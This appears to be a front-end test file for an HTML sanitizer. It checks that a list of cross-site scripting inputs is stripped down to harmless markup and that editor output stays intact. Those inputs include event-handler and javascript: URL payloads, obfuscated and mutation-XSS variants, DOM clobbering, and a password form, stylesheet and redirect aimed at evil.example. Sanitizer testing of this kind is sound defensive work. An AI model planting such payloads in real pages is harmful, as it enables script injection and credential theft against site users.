import { render } from '@testing-library/react'
import { afterEach, expect, test, vi } from 'vitest'
import { cleanHtml } from './clean-html.ts'
import { RichHtml } from './rich-html.tsx'

declare global {
  interface Window {
    ranBy?: string
  }
}

afterEach(() => {
  delete window.ranBy
})

/** Texts that would do something if they were shown as they are; whatever runs says so in `ranBy`. */
const HOSTILE: readonly (readonly [what: string, html: string])[] = [
  ['a script', '<script>window.ranBy = "script"</script><p>words</p>'],
  ['a handler of a picture', '<img src="/none.png" onerror="window.ranBy = \'onerror\'">words'],
  ['a handler of an element', '<p onmouseover="window.ranBy = 1" onclick="window.ranBy = 2">words</p>'],
  ['an opening handler', '<details open ontoggle="window.ranBy = 1"><summary>words</summary></details>'],
  ['a frame', '<iframe src="javascript:parent.ranBy = 1"></iframe>words'],
  ['a frame with a text of its own', '<iframe srcdoc="<script>parent.ranBy = 1</script>"></iframe>words'],
  ['an address that is a script', '<a href="javascript:window.ranBy = 1">words</a>'],
  ['an address that is a script, written with controls', '<a href="java&#9;script&colon;window.ranBy = 1">words</a>'],
  ['an address that is a document', '<a href="data:text/html,<script>opener.ranBy = 1</script>">words</a>'],
  ['a picture that is a document', '<img src="data:image/svg+xml,<svg onload=alert(1)>">words'],
  ['a background from elsewhere', '<p style="background: url(//evil.example/a.png); background-image: url(/b.png)">words</p>'],
  ['a style that covers the page', '<div style="position: fixed; inset: 0; z-index: 9999">words</div>'],
  ['a colour that is an address', '<span style="color: url(//evil.example)">words</span>'],
  ['a style sheet', '<style>body { display: none }</style><link rel="stylesheet" href="//evil.example/a.css">words'],
  ['a form', '<form action="//evil.example"><input name="password"><button>words</button></form>'],
  ['a picture of lines with a script', '<svg><script>window.ranBy = 1</script><a xlink:href="javascript:1"></a></svg>words'],
  ['an animation of an address', '<svg><a><animate attributeName="href" values="javascript:window.ranBy=1"/></a></svg>words'],
  [
    'mathematics that ends too early',
    'words<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.ranBy=1&gt;">',
  ],
  ['a template', '<template><img src="/none.png" onerror="window.ranBy = 1"></template>words'],
  ['a text of no script', '<noscript><p title="</noscript><img src=x onerror=window.ranBy=1>">words</p></noscript>'],
  ['an object and an embedded thing', '<object data="javascript:window.ranBy=1"></object><embed src="//evil.example">words'],
  ['another base and a redirection', '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">words'],
  ['names that hide those of the document', '<img name="body" src="/none.png"><a id="getElementById" href="/x">words</a>'],
  ['media', '<video src="/none.mp4" onerror="window.ranBy = 1" poster="javascript:1"><source onerror="window.ranBy = 2"></video>words'],
]
const ALLOWED =
  /^(p|br|hr|h[1-6]|blockquote|pre|ul|ol|li|div|span|a|img|strong|b|em|i|u|s|del|code|mark|sub|sup|table|caption|colgroup|col|thead|tbody|tfoot|tr|th|td)$/

test.each(HOSTILE)('nothing of a hostile text is left but words: %s', async (_what, html) => {
  const screen = render(<RichHtml html={html} data-testid="shown" />)
  await vi.waitFor(() => expect(screen.getByTestId('shown').childNodes.length).toBeGreaterThan(0))
  const elements = [...screen.getByTestId('shown').querySelectorAll('*')]
  for (const element of elements) {
    expect(element.localName).toMatch(ALLOWED)
    for (const { name, value } of element.attributes) {
      expect(name).not.toMatch(/^on|^srcdoc$|^id$|^name$|^class$/)
      expect(value).not.toMatch(/javascript:|data:text|data:image\/svg|url\(|position|inset/i)
    }
  }
  // What loads late has its turn: a picture that is not there fails.
  await new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))
  expect(window.ranBy).toBeUndefined()
  screen.unmount()
})

test('what the editor makes stays as it is', () => {
  const html =
    '<h2 style="text-align: center">Title</h2><p>Some <strong>bold</strong> <span style="color: rgb(255, 0, 0)">red</span> <em>words</em></p>' +
    '<ul><li><p>One</p></li></ul><table><tbody><tr><th colspan="2" rowspan="1"><p>A</p></th></tr></tbody></table><pre><code>x &lt; y</code></pre>'
  expect(cleanHtml(html)).toBe(html)
})

test('links open a window of their own that knows nothing of this one, and pictures come when they are in sight', () => {
  expect(cleanHtml('<a href="/orders" target="_self">Orders</a><img src="/files/a.png" alt="A">')).toBe(
    '<a href="/orders" rel="noopener" target="_blank">Orders</a><img src="/files/a.png" alt="A" loading="lazy">',
  )
})
